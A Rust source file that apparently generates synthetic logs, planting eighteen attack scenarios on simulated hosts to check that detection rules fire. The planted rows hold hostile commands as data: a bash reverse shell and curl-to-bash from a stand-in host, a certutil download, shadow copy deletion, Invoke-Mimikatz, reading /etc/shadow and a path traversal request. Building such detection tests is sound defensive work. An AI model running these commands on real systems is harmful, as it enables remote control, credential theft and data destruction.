//! The attacks: each once, on one host, with the starter rules that must find it.
//!
//! Rule ids are those of `rules/`; a story's other rows are what goes with it and matches nothing.

use super::linux::{access, audit_stamp, command, file_row, line, syscall};
use super::random::Random;
use super::windows::{data, process, script_block, security, service, sysmon};
use super::{Host, Kind, Options, Planted, nanos};
use crate::signoz::{LogRow, ksuid};
use crate::windows::{Shape, UserData, WindowsEvent};

/// What a story's author writes with.
struct Scene<'a> {
    host: &'a Host,
    at_ns: u64,
    record_id: &'a mut u64,
    random: &'a mut Random,
    rows: Vec<LogRow>,
}

/// A story: its name, whether it plays on Windows, its rules, and its rows. The last row is the one
/// that must raise the alerts.
struct Story {
    name: &'static str,
    windows: bool,
    rules: &'static [&'static str],
    play: fn(&mut Scene<'_>),
}

const STORIES: [Story; 18] = [
    Story {
        name: "a document starts a hidden, encoded PowerShell",
        windows: true,
        rules: &["6d956d3e-f3d6-4165-908a-08e3994d8335", "b0312575-1f9f-4806-821f-cc4b38d926bd"],
        play: macro_document,
    },
    Story {
        name: "a tool reads the memory of LSASS",
        windows: true,
        rules: &["0e06475c-b689-4adf-a5ee-2e346abf34d8"],
        play: lsass_read,
    },
    Story {
        name: "PsExec installs its service",
        windows: true,
        rules: &["f5308f00-ee3a-4c11-945c-e9e3f202c75f"],
        play: psexec_service,
    },
    Story {
        name: "the Security log is cleared",
        windows: true,
        rules: &["2fcae28e-e447-4618-a924-a77248ff6e2e"],
        play: log_cleared,
    },
    Story {
        name: "shadow copies are deleted",
        windows: true,
        rules: &["c73b4f51-8497-4767-a700-b7bc558cd239"],
        play: shadows_deleted,
    },
    Story {
        name: "certutil downloads a program",
        windows: true,
        rules: &["07509a1a-45c8-4ff6-a679-d58caa68c7dc"],
        play: certutil_download,
    },
    Story {
        name: "an account becomes local administrator",
        windows: true,
        rules: &["dc4436e6-f518-4078-ae5f-c9df91805157"],
        play: local_admin,
    },
    Story {
        name: "a task runs a program of a public folder",
        windows: true,
        rules: &["667c30b7-95c7-4acc-b328-26849fddd6f6"],
        play: scheduled_task,
    },
    Story {
        name: "Mimikatz runs in PowerShell",
        windows: true,
        rules: &["c581d1c9-2723-4c13-9df2-cd645936ce7a"],
        play: mimikatz_script,
    },
    Story {
        name: "a reverse shell starts",
        windows: false,
        // The audit record of the command, and the process that audit records together tell of.
        rules: &["3c2d7ba3-65cb-4e00-9d04-fdc4e722e75d", "a54d4bc2-002b-4696-83a0-2dac045d9bff"],
        play: reverse_shell,
    },
    Story {
        name: "the shadow file is read",
        windows: false,
        rules: &["6bfb5611-907f-4fcb-aff2-21f259ae0cb6"],
        play: shadow_read,
    },
    Story {
        name: "a kernel module is loaded by hand",
        windows: false,
        rules: &["4ecf4b0e-f04e-464a-80d4-3107efa6a90e"],
        play: kernel_module,
    },
    Story {
        name: "a download is piped into a shell",
        windows: false,
        // As above: the record and the process.
        rules: &["dd7f65c0-b011-452f-bd5b-3a1edee48a4e", "ea28d0cd-b425-4f09-b1e5-c9aeb87edfe9"],
        play: curl_to_bash,
    },
    Story {
        name: "a cron job is placed",
        windows: false,
        rules: &["d538f4b4-cf4b-4f64-ba1a-ccbf0dbeba37"],
        play: cron_file,
    },
    Story {
        name: "a cron job fetches code",
        windows: false,
        rules: &["7acc7b3d-687d-441a-af60-d2a2880959e5"],
        play: cron_download,
    },
    Story {
        name: "root's password is guessed over SSH",
        windows: false,
        rules: &["e7da4dae-5fef-49e1-947b-3c34e617ca1b"],
        play: ssh_guessed,
    },
    Story {
        name: "sudo opens a root shell",
        windows: false,
        rules: &["0a14f19d-6716-4c87-bb5e-bae87a1d4a1d"],
        play: sudo_shell,
    },
    Story {
        name: "a web request climbs to /etc/passwd",
        windows: false,
        rules: &["a409691a-3e48-4c70-8f42-2057d4ad38e0"],
        play: path_traversal,
    },
];

/// Plays every story once, spread over the hosts and over the time.
pub(super) fn plant(
    hosts: &[Host],
    options: &Options,
    random: &mut Random,
    record_id: &mut u64,
) -> (Vec<Planted>, Vec<LogRow>) {
    let (mut planted, mut rows) = (Vec::new(), Vec::new());
    let duration = nanos(options.duration);
    for (number, story) in STORIES.iter().enumerate() {
        let able: Vec<&Host> =
            hosts.iter().filter(|host| matches!(host.kind, Kind::Linux(_)) != story.windows).collect();
        let Some(host) = able.get((number + random.below(able.len().max(1))) % able.len().max(1)) else {
            continue;
        };
        // Between a tenth and nine tenths; in whole 100 ns, as Windows keeps time.
        let share = duration / 10 * 8 / STORIES.len() as u64;
        let at_ns = (options.start_ns + duration / 10 + share * number as u64) / 100 * 100;
        let mut scene = Scene { host, at_ns, record_id, random, rows: Vec::new() };
        (story.play)(&mut scene);
        let mut played = scene.rows;
        for row in &mut played {
            row.id = ksuid::with_payload(row.timestamp_ns, random.bytes());
        }
        let Some(last) = played.last() else { continue };
        for rule_id in story.rules {
            let row_id = last.id.clone();
            planted.push(Planted {
                story: story.name,
                host: host.name.clone(),
                rule_id,
                at_ns: last.timestamp_ns,
                row_id,
            });
        }
        rows.append(&mut played);
    }
    (planted, rows)
}

impl Scene<'_> {
    fn next_record(&mut self) -> u64 {
        *self.record_id += 1;
        *self.record_id
    }

    fn push_event(&mut self, event: &WindowsEvent) {
        let shape = match self.host.kind {
            Kind::Workstation(shape) | Kind::Server(shape) => shape,
            Kind::Linux(_) => Shape::D,
        };
        self.rows.push(event.row(shape.into()));
    }

    fn push_process(&mut self, program: [&str; 4]) {
        let record = self.next_record();
        let event = process(self.host, self.at_ns, record, program, "bob", self.random);
        self.push_event(&event);
    }

    fn push_command(&mut self, arguments: &[&str]) {
        let mut records = command(self.host, self.at_ns, arguments, "bob", self.random);
        // The record with the arguments goes last: it is the one that matches.
        let execve = records.remove(1);
        records.push(execve);
        self.rows.append(&mut records);
    }
}

fn macro_document(scene: &mut Scene<'_>) {
    scene.push_process([
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "PowerShell.EXE",
        "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    ]);
}

fn lsass_read(scene: &mut Scene<'_>) {
    let fields = data(&[
        ("SourceProcessGUID", &scene.random.guid()),
        ("SourceProcessId", "4412"),
        ("SourceThreadId", "5120"),
        ("SourceImage", r"C:\Users\bob\Desktop\m.exe"),
        ("TargetProcessGUID", &scene.random.guid()),
        ("TargetProcessId", "712"),
        ("TargetImage", r"C:\Windows\System32\lsass.exe"),
        ("GrantedAccess", "0x1010"),
        (
            "CallTrace",
            r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c3be|C:\Users\bob\Desktop\m.exe+c5a2f",
        ),
        ("SourceUser", r"CORP\bob"),
        ("TargetUser", r"NT AUTHORITY\SYSTEM"),
    ]);
    let record = scene.next_record();
    let event = sysmon(scene.host, scene.at_ns, record, 10, "Process accessed", fields);
    scene.push_event(&event);
}

fn psexec_service(scene: &mut Scene<'_>) {
    let fields = data(&[
        ("ServiceName", "PSEXESVC"),
        ("ImagePath", r"%SystemRoot%\PSEXESVC.exe"),
        ("ServiceType", "user mode service"),
        ("StartType", "demand start"),
        ("AccountName", "LocalSystem"),
    ]);
    let message = "A service was installed in the system.\r\n\r\nService Name:  PSEXESVC\r\nService File Name:  %SystemRoot%\\PSEXESVC.exe\r\nService Type:  user mode service\r\nService Start Type:  demand start\r\nService Account:  LocalSystem";
    let record = scene.next_record();
    let event = service(scene.host, scene.at_ns, record, 7045, message, fields);
    scene.push_event(&event);
}

fn log_cleared(scene: &mut Scene<'_>) {
    let record = scene.next_record();
    let mut event = security(scene.host, scene.at_ns, record, 1102, "The audit log was cleared.", Vec::new());
    event.provider = "Microsoft-Windows-Eventlog".into();
    event.provider_guid = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}".into();
    event.level = 4;
    event.user_data = Some(UserData {
        name: "LogFileCleared".into(),
        xmlns: "http://manifests.microsoft.com/win/2004/08/windows/eventlog".into(),
        fields: data(&[
            ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"),
            ("SubjectUserName", "bob"),
            ("SubjectDomainName", "CORP"),
            ("SubjectLogonId", "0xc9e1b"),
        ]),
    });
    scene.push_event(&event);
}

fn shadows_deleted(scene: &mut Scene<'_>) {
    scene.push_process([
        r"C:\Windows\System32\vssadmin.exe",
        "VSSADMIN.EXE",
        "vssadmin.exe Delete Shadows /All /Quiet",
        r"C:\Windows\explorer.exe",
    ]);
}

fn certutil_download(scene: &mut Scene<'_>) {
    scene.push_process([
        r"C:\Windows\System32\certutil.exe",
        "CertUtil.exe",
        r"certutil.exe -urlcache -split -f http://198.51.100.23/svc.txt C:\ProgramData\svc.bin",
        r"C:\Windows\System32\cmd.exe",
    ]);
}

fn local_admin(scene: &mut Scene<'_>) {
    let fields = data(&[
        ("MemberName", "-"),
        ("MemberSid", "S-1-5-21-1004336348-1177238915-682003330-1188"),
        ("TargetUserName", "Administrators"),
        ("TargetDomainName", "Builtin"),
        ("TargetSid", "S-1-5-32-544"),
        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"),
        ("SubjectUserName", "bob"),
        ("SubjectDomainName", "CORP"),
        ("SubjectLogonId", "0xc9e1b"),
        ("PrivilegeList", "-"),
    ]);
    let record = scene.next_record();
    let message = "A member was added to a security-enabled local group.";
    let event = security(scene.host, scene.at_ns, record, 4732, message, fields);
    scene.push_event(&event);
}

fn scheduled_task(scene: &mut Scene<'_>) {
    let content = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>C:\\Users\\Public\\svc.exe</Command>\r\n    </Exec>\r\n  </Actions>\r\n</Task>";
    let fields = data(&[
        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"),
        ("SubjectUserName", "bob"),
        ("SubjectDomainName", "CORP"),
        ("SubjectLogonId", "0xc9e1b"),
        ("TaskName", r"\Updater"),
        ("TaskContent", content),
        ("ClientProcessStartKey", "4222124650660001"),
        ("ClientProcessId", "5580"),
        ("ParentProcessId", "4120"),
        ("RpcCallClientLocality", "0"),
        ("FQDN", &scene.host.name),
    ]);
    let record = scene.next_record();
    let event = security(scene.host, scene.at_ns, record, 4698, "A scheduled task was created.", fields);
    scene.push_event(&event);
}

fn mimikatz_script(scene: &mut Scene<'_>) {
    let record = scene.next_record();
    let script = "Invoke-Mimikatz -DumpCreds | Out-File \"$env:TEMP\\o.txt\"";
    let mut event = script_block(scene.host, scene.at_ns, record, script, scene.random);
    // PowerShell itself flags such a block.
    event.level = 3;
    if let Some(rendering) = &mut event.rendering {
        rendering.level = Some("Warning".into());
    }
    scene.push_event(&event);
}

fn reverse_shell(scene: &mut Scene<'_>) {
    scene.push_command(&["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"]);
}

fn shadow_read(scene: &mut Scene<'_>) {
    scene.push_command(&["cat", "/etc/shadow"]);
}

fn kernel_module(scene: &mut Scene<'_>) {
    let stamp = audit_stamp(scene.at_ns, scene.random);
    let text = syscall(&stamp, 313, "finit_module", 2300, "/usr/bin/kmod", "insmod", "root", "modules");
    scene.rows.push(file_row(scene.host, scene.at_ns, "audit.log", text));
}

fn curl_to_bash(scene: &mut Scene<'_>) {
    scene.push_command(&["sh", "-c", "curl -fsSL http://198.51.100.23/i.sh | bash"]);
}

fn cron_file(scene: &mut Scene<'_>) {
    let stamp = audit_stamp(scene.at_ns, scene.random);
    let text = format!(
        "type=PATH {stamp} item=1 name=\"/etc/cron.d/0sync\" inode=393411 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\u{1d}OUID=\"root\" OGID=\"root\""
    );
    scene.rows.push(file_row(scene.host, scene.at_ns, "audit.log", text));
}

fn cron_download(scene: &mut Scene<'_>) {
    let text = "(root) CMD (curl -fsSL http://198.51.100.23/i.sh | bash)";
    scene.rows.push(line(scene.host, scene.at_ns, "CRON", 8841, 9, text));
}

fn ssh_guessed(scene: &mut Scene<'_>) {
    for attempt in 0..8 {
        let at_ns = scene.at_ns - (8 - attempt) * 1_000_000;
        let text = "Failed password for root from 203.0.113.9 port 51514 ssh2";
        scene.rows.push(line(scene.host, at_ns, "sshd", 2214, 4, text));
    }
    let text = "Accepted password for root from 203.0.113.9 port 51514 ssh2";
    scene.rows.push(line(scene.host, scene.at_ns, "sshd", 2214, 4, text));
}

fn sudo_shell(scene: &mut Scene<'_>) {
    let text = "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash";
    scene.rows.push(line(scene.host, scene.at_ns, "sudo", 4321, 10, text));
}

fn path_traversal(scene: &mut Scene<'_>) {
    let request = "GET /download.php?file=../../../../etc/passwd HTTP/1.1";
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0";
    scene.rows.push(access(scene.host, scene.at_ns, "203.0.113.77", request, 200, 1843, agent));
}
